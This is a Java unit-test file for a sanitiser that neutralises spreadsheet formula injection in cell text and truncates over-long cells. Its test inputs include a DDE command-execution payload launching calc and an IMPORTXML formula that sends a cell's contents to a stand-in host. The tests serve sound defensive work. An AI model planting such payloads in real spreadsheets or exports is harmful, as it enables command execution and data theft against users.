package io.inkstream.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import io.inkstream.sheets.google.Fixture;
import io.inkstream.testkit.Property;
import java.util.random.RandomGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CellTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"x\")",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "-",
                "+",
                "+A1",
                "-1-1",
                "+1-1",
                "+1/2",
                "+447700900123-A1",
                "--1",
                "-1-1=",
                "+44abc",
                "- rose",
                "+=1",
                " =1+1",
                "\n=1+1",
                "\nhello",
                "  @SUM(A1)",
                " +1+cmd|' /C calc'!A0",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\uff1d1+1",
                "\uff0b1+cmd",
                "\uff0d2+3",
                "\uff20SUM(A1)",
                " \uff1d1+1"
            })
    void safe_whenASpreadsheetCouldRunIt_putsAnApostropheInFront(String text) {
        assertThat(CellText.safe(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "hello",
                "10 x 15 cm",
                "'quoted",
                "a=b",
                " hello",
                " -5",
                "447700900123",
                "+447700900123",
                " +447700900123",
                "+44 7700 900123",
                "+44 (0)7700-900.123",
                "-5",
                "-5.50",
                "+3",
                "-0,5",
                "2026-09-21T14:13:20Z",
                "https://example.invalid/?a=b",
                "مرحبا",
                "🏴󠁧󠁢󠁷󠁬󠁳󠁿 family 👨‍👩‍👧"
            })
    void safe_whenHarmless_keepsItAsItIs(String text) {
        assertThat(CellText.safe(text)).isEqualTo(text);
    }

    @Test
    void safe_forTheFormulaInjectionFixture_isLiteralText() {
        var value = Fixture.read("whatsapp/text_formula_injection.json").at("/entry/0/changes/0/value");
        var name = value.at("/contacts/0/profile/name").asString();
        var text = value.at("/messages/0/text/body").asString();

        assertThat(CellText.safe(name)).isEqualTo("'=HYPERLINK(\"http://example.invalid\",\"x\")");
        assertThat(CellText.safe(text)).isEqualTo("'=IMPORTXML(\"http://example.invalid/?q=\"&A1,\"//a\")");
    }

    @ParameterizedTest
    @CsvSource({"50000, false", "50001, true", "61234, true"})
    void safe_whenLongerThanACell_isCutWithANote(int length, boolean cut) {
        var safe = CellText.safe("x".repeat(length));

        assertThat(safe).hasSize(CellText.CHARACTERS_MAX);
        assertThat(safe.endsWith(" [cut: " + length + " characters]")).isEqualTo(cut);
    }

    @Test
    void safe_whenCut_neverSplitsACharacterAsAReaderSeesIt() {
        var family = "👨‍👩‍👧";

        var safe = CellText.safe(family.repeat(10_000));

        var kept = safe.substring(0, safe.indexOf(" [cut: "));
        assertThat(kept.length() % family.length()).isZero();
        assertThat(kept).endsWith(family);
        assertThat(safe.length()).isLessThanOrEqualTo(CellText.CHARACTERS_MAX);
    }

    @Test
    void safe_whenTextCannotBeStored_replacesOnlyThat() {
        assertThat(CellText.safe("a\u0000b\ud800c\udfffd😀")).isEqualTo("ab\ufffdc\ufffdd😀");
    }

    @Test
    void safe_whenNulHidesAFormula_stillNeutralises() {
        assertThat(CellText.safe("\u0000=1+1")).isEqualTo("'=1+1");
    }

    @Test
    void safe_forAnyText_isNeverRunnableAndAlwaysFits() {
        Property.forAll(CellTextTest::anyText, text -> {
            var safe = CellText.safe(text);
            assertThat(safe.length()).isLessThanOrEqualTo(CellText.CHARACTERS_MAX);
            assertThat(safe).doesNotStartWith("\t").doesNotStartWith("\r").doesNotStartWith("\n");
            var visible = safe.strip();
            assertThat(visible).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("\uff1d");
            if (visible.startsWith("+") || visible.startsWith("-")) {
                assertThat(visible).matches("[-+\\d ()./,]+");
            }
        });
    }

    private static String anyText(RandomGenerator random) {
        var alphabet = "=+-@\uff1d\t\r\n\u0000 1,.()ab'\ud83d\ude00";
        return random.ints(random.nextInt(12), 0, alphabet.length())
                .mapToObj(index -> String.valueOf(alphabet.charAt(index)))
                .reduce("", String::concat);
    }
}
